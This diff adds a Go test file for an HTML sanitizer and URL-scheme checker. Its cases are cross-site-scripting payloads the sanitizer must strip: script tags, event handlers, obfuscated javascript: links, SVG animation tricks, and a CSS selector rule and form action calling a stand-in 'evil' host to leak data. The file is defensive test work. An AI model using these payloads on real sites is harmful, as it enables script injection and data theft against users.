@@ -0,0 +1,83 @@
+package main
+
+import (
+	"github.com/stretchr/testify/assert"
+	"testing"
+)
+
+func TestSanitizeHTML(t *testing.T) {
+	cases := []struct {
+		doc    string
+		expect string
+	}{
+		{
+			doc:    `<p>Hello <b>world</b></p>`,
+			expect: `<p>Hello <b>world</b></p>`,
+		},
+		{
+			doc:    `<p>before<script>alert(1)</script>after</p>`,
+			expect: `<p>beforeafter</p>`,
+		},
+		{
+			doc:    `<div><object><object></object>nested</object>kept</div>`,
+			expect: `<div>kept</div>`,
+		},
+		{
+			doc:    `<img src="a.png" onerror="alert(1)" style="x" alt="a">`,
+			expect: `<img src="a.png" alt="a">`,
+		},
+		{
+			doc:    `<a href="javascript:alert(1)">x</a><a href=" JaVa	Script:alert(1)">y</a><a href="/page">z</a>`,
+			expect: `<a>x</a><a>y</a><a href="/page">z</a>`,
+		},
+		{
+			doc:    `<img src="data:image/png;base64,AA=="><img src="data:text/html,x"><img src="data:image/svg+xml,x">`,
+			expect: `<img src="data:image/png;base64,AA=="><img><img>`,
+		},
+		{
+			doc:    `<head><base href="http://evil"><meta http-equiv="refresh" content="0"></head><!--[if IE]><script></script><![endif]-->text`,
+			expect: `<head></head>text`,
+		},
+		{
+			doc:    `<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>`,
+			expect: ``,
+		},
+		{
+			doc:    `<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>kept`,
+			expect: `kept`,
+		},
+		{
+			doc:    `<svg><a><set attributeName="href" to="javascript:alert(1)"/><animateMotion values="javascript:alert(1)"/></a></svg>`,
+			expect: ``,
+		},
+		{
+			doc:    `<math><mi xlink:href="javascript:alert(1)">x</mi></math><p>kept</p>`,
+			expect: `<p>kept</p>`,
+		},
+		{
+			doc:    `<style>input[value^="a"]{background:url(http://evil/a)}</style><p>text</p>`,
+			expect: `<p>text</p>`,
+		},
+		{
+			doc:    `<link rel="stylesheet" href="http://evil/x.css"><form action="http://evil"><input name="q"><button formaction="javascript:alert(1)">Go</button></form>`,
+			expect: `Go`,
+		},
+		{
+			doc:    `<p data-x="1" tabindex="1" class="c"><marquee>moving</marquee></p>`,
+			expect: `<p class="c">moving</p>`,
+		},
+	}
+
+	for i, c := range cases {
+		assert.Equal(t, c.expect, string(SanitizeHTML([]byte(c.doc))), "Case %d", i)
+	}
+}
+
+func TestSafeURLScheme(t *testing.T) {
+	for _, u := range []string{"http://example.com", "https://example.com", "/path", "page.html", "#top", "?q=1", "mailto:a@example.com"} {
+		assert.True(t, safeURLScheme(u), "Expect %q safe", u)
+	}
+	for _, u := range []string{"javascript:alert(1)", "vbscript:x", "data:text/html,x", "unknown:x", " javascript:x", "java\nscript:x"} {
+		assert.False(t, safeURLScheme(u), "Expect %q unsafe", u)
+	}
+}